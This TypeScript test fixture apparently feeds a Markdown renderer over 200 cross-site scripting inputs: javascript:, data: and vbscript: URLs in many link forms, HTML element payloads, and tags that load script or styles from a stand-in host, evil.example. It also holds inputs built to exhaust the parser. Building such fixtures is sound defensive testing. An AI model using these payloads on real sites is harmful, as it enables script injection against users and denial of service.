const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://academy.example/1',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  '//evil.example/%0ajavascript:alert(1)',
  'https://academy.example@evil.example/',
  'https:javascript:alert(1)',
]

const elements = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>Send</button></form>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<object data="javascript:alert(1)"></object>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
]

/** Ways to write a link to an address. */
const links = [
  (address: string) => `[Look](${address})`,
  (address: string) => `[Look](<${address}>)`,
  (address: string) => `[Look](${address} "title")`,
  (address: string) => `![Look](${address})`,
  (address: string) => `[![Look](${address})](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[Look][1]\n\n[1]: ${address}`,
  (address: string) => address,
]

/** More than 200 texts that try to run a script where they are shown. */
export const scriptTexts: string[] = [
  ...links.flatMap((link) => schemes.map((scheme) => link(scheme))),
  ...elements.flatMap((element) => [element, `> ${element}`, `- **${element}**`]),
]

/** Texts with which a parser of Markdown takes long or runs out of stack. */
export const exhaustingTexts: Record<string, string> = {
  'nested quotes': '>'.repeat(20_000),
  'nested lists': '- '.repeat(10_000),
  'nested numbered lists': '1. '.repeat(7000),
  'indented lists': Array.from({ length: 500 }, (_, index) => `${'  '.repeat(index % 40)}- a`).join('\n'),
  'alternating emphasis': '*_'.repeat(10_000),
  'open emphasis': '**a'.repeat(7000),
  'open brackets': '['.repeat(20_000),
  'open links': '[a]('.repeat(5000),
  'runs of backticks': Array.from({ length: 200 }, (_, index) => '`'.repeat(index)).join('a'),
  'open elements': '<a'.repeat(10_000),
  'empty lines': '\n \n'.repeat(300_000),
  'one long line': 'a'.repeat(1_000_000),
}
